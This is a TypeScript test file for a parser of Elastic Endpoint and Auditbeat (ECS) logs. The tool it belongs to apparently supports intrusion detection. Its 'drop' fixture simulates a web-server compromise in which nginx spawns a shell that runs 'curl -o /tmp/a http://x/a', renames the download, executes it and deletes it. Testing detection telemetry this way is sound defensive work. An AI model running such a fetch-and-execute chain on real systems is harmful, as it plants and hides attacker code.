import { readdirSync, readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import type { EventOf, TelemetryEvent } from "@limpid/core";
import { describe, expect, it, test } from "vitest";
import { auditbeatLog } from "../../testing/auditbeat-log.ts";
import { EndpointLog, flattened, listed } from "../../testing/endpoint-log.ts";
import { naiveEvents, sortEvents } from "../../testing/naive-auditd.ts";
import { accountedFor, readLog } from "../../testing/read.ts";
import { recogniseSource } from "../index.ts";
import { ecs } from "./source.ts";

const AUDITD_LOGS = join(dirname(fileURLToPath(import.meta.url)), "../auditd/testdata");

function of<K extends TelemetryEvent["kind"]>(told: readonly TelemetryEvent[], kind: K): readonly EventOf<K>[] {
  return told.filter((event): event is EventOf<K> => event.kind === kind);
}

function drop(): EndpointLog {
  const log = new EndpointLog();
  const server = log.running("/usr/sbin/nginx", 33);
  const shell = log.spawn(server, "/bin/sh", ["sh", "-c", "curl -o /tmp/a http://x/a"]);
  log.exec(shell, "/usr/bin/curl", ["curl", "-o", "/tmp/a", "http://x/a"]);
  log.file(shell, "creation", "/tmp/a").rename(shell, "/tmp/a", "/tmp/b").exit(shell, 3);
  log.spawn(server, "/tmp/b", ["b"]);
  return log.file(server, "deletion", "/tmp/b");
}

describe("a drop that Elastic Endpoint saw", () => {
  const whole = readLog(ecs, drop().log);

  it("is told from the fork to the removal", () => {
    expect(whole.events.map(({ kind }) => kind)).toEqual([
      "account.named",
      "process.forked",
      "process.executed",
      "process.executed",
      "file.opened",
      "file.renamed",
      "process.exited",
      "process.forked",
      "process.executed",
      "file.removed",
    ]);
    const [forked] = of(whole.events, "process.forked");
    const [first, second] = of(whole.events, "process.executed");
    expect(forked).toMatchObject({ child: first?.process.pid, process: { image: "/usr/sbin/nginx" } });
    expect(forked?.process.sensorId).toBe(first?.process.parentSensorId);
    expect(second).toMatchObject({
      host: "web-3",
      image: "/usr/bin/curl",
      argv: ["curl", "-o", "/tmp/a", "http://x/a"],
      argvComplete: true,
      file: { path: "/usr/bin/curl", sha256: "c".repeat(64) },
      process: { uid: 33, cwd: "/srv", parentImage: "/usr/sbin/nginx" },
    });
    expect(second?.process.sensorId).toBe(first?.process.sensorId);
    expect(of(whole.events, "file.renamed")).toMatchObject([{ from: { path: "/tmp/a" }, to: { path: "/tmp/b" } }]);
    expect(of(whole.events, "process.exited")).toMatchObject([{ code: 3 }]);
  });

  test.each([
    { name: "flattened", log: drop().documents.map((document) => flattened(document)) },
    { name: "as lists below fields", log: drop().documents.map((document) => ({ fields: listed(document) })) },
    { name: "as an export", log: drop().documents.map((document) => ({ _index: "x", _source: document })) },
    { name: "half flattened", log: drop().documents.map((document) => halfFlat(document)) },
  ])("$name it is the same", ({ log }) => {
    const text = log.map((document) => JSON.stringify(document)).join("\n");
    expect(readLog(ecs, text).events).toEqual(whole.events);
    expect(recogniseSource(text)?.name).toBe("ecs");
  });

  it("given twice it happens once", () => {
    const { events, counts } = readLog(ecs, `${drop().log}${drop().log}`);
    expect(events).toEqual(whole.events);
    expect(counts.skipped).toEqual({ duplicate: 9 });
    expect(accountedFor(counts)).toBe(18);
  });
});

function halfFlat(document: object): object {
  return Object.fromEntries(
    Object.entries(document).map(([name, value]) =>
      typeof value === "object" && value !== null && !Array.isArray(value) ? [name, flattened(value)] : [name, value],
    ),
  );
}

describe("documents of macOS", () => {
  const log = new EndpointLog("macos");
  const shell = log.running("/bin/zsh", 501);

  test.each([
    { signature: { exists: true, trusted: true, subject_name: "Software Signing" }, status: "platform" },
    {
      signature: {
        exists: true,
        trusted: true,
        subject_name: "Developer ID Application: X (ABCDE12345)",
        team_id: "ABCDE12345",
      },
      status: "developer-id",
    },
    { signature: { exists: true, trusted: true, subject_name: "Apple Development: x" }, status: "signed" },
    { signature: { exists: true, trusted: false, subject_name: "X" }, status: "invalid" },
    { signature: { exists: false }, status: "unsigned" },
    { signature: { exists: true, trusted: true }, status: undefined },
  ])("a signature of $signature", ({ signature, status }) => {
    log.documents.length = 0;
    log.file(shell, "modification", "/tmp/a", { process: { code_signature: signature } });
    const [event] = of(readLog(ecs, log.log).events, "file.written");
    expect(event?.process.signing?.status).toBe(status);
  });

  it("names who is responsible, and keeps inodes whole", () => {
    log.documents.length = 0;
    log.file(shell, "modification", "/tmp/a", {
      Effective_process: { pid: 7, entity_id: "e", executable: "/usr/bin/osascript" },
      file: { inode: "1152921500312443765", size: 7, hash: { sha256: "A".repeat(64) } },
    });
    expect(of(readLog(ecs, log.log).events, "file.written")).toMatchObject([
      {
        process: { responsible: { pid: 7, sensorId: "e", image: "/usr/bin/osascript" } },
        file: { inode: 1152921500312443765n, sizeBytes: 7, sha256: "a".repeat(64) },
      },
    ]);
  });
});

test.each([
  {
    name: "a process that ran before",
    change: { event: { action: "already_running" } },
    as: "endpoint already_running",
  },
  { name: "a host with Windows", change: { host: { os: { type: "windows" } } }, as: "windows" },
  { name: "a failure", change: { event: { outcome: "failure" } }, as: "endpoint creation" },
])("$name is ignored", ({ change, as }) => {
  const log = new EndpointLog();
  log.file(log.running("/bin/sh", 0), "creation", "/tmp/a", change);
  expect(readLog(ecs, log.log)).toMatchObject({ events: [], counts: { ignored: { [as]: 1 } } });
});

describe("Auditbeat", () => {
  /** What both can know: Auditbeat writes nothing of logins. The last part of an id is the number of the record. */
  const shared = (events: readonly TelemetryEvent[]) =>
    sortEvents(
      events
        .filter(({ kind }) => !/^(?:session|events|account|login)\./.test(kind))
        .map((event) => ({ ...event, id: event.id.slice(event.id.lastIndexOf(":")) })),
    );

  test.each(["created-and-run.log", "interleaved-without-proctitle.log"])("tells what %s tells", (name) => {
    expect(readdirSync(AUDITD_LOGS)).toContain(name);
    const log = readFileSync(join(AUDITD_LOGS, name), "latin1");
    const made = auditbeatLog(log);
    expect(recogniseSource(made)?.name).toBe("ecs");
    expect(shared(readLog(ecs, made).events)).toEqual(shared(naiveEvents(log)));
  });

  const changed = (file: object, rest: object) =>
    JSON.stringify({
      "@timestamp": "2026-11-22T06:00:00.123Z",
      event: { module: "file_integrity", action: ["created", "updated"] },
      host: { name: "h" },
      file: { path: "/tmp/a", inode: "20164115", mode: "0755", type: "file", uid: 501, ...file },
      ...rest,
    });

  it("file_integrity names its process with newer backends", () => {
    const process = { pid: 7, executable: "/usr/bin/curl", entity_id: "x" };
    expect(readLog(ecs, changed({}, { process, hash: { sha256: "b".repeat(64) } })).events).toMatchObject([
      {
        kind: "file.opened",
        created: true,
        file: { mode: 0o100755, inode: 20164115, ownerUid: 501, sha256: "b".repeat(64) },
      },
    ]);
    expect(readLog(ecs, changed({}, {})).counts.ignored).toEqual({
      "file_integrity created+updated without a process": 1,
    });
  });
});

test("a document of another module is none of these, whatever its message says", () => {
  const message = drop().lines[0];
  const document = { "@timestamp": "2026-11-22T06:00:00Z", event: { module: "nginx" }, ecs: { version: "8" }, message };
  expect(readLog(ecs, JSON.stringify(document)).counts.recordsUsed).toBe(1);
  const other = JSON.stringify({ ...document, message: "GET /" });
  expect(readLog(ecs, other).counts.skipped).toEqual({ "other-record": 1 });
});

test("where a file came from is told of it beside what happened", () => {
  const log = new EndpointLog();
  const origin = { file: { origin_url: "https://x.example/a", origin_referrer_url: "https://x.example/" } };
  log.file(log.running("/bin/sh", 0), "creation", "/tmp/a", origin);
  const [made, told, ...more] = readLog(ecs, log.lines.join("\n")).events.filter(({ kind }) =>
    kind.startsWith("file."),
  );
  expect(made).toMatchObject({ kind: "file.opened" });
  expect(told).toMatchObject({
    kind: "file.reported",
    file: { path: "/tmp/a" },
    attributes: { "user.xdg.origin.url": "https://x.example/a", "user.xdg.referrer.url": "https://x.example/" },
  });
  expect(more).toEqual([]);
});
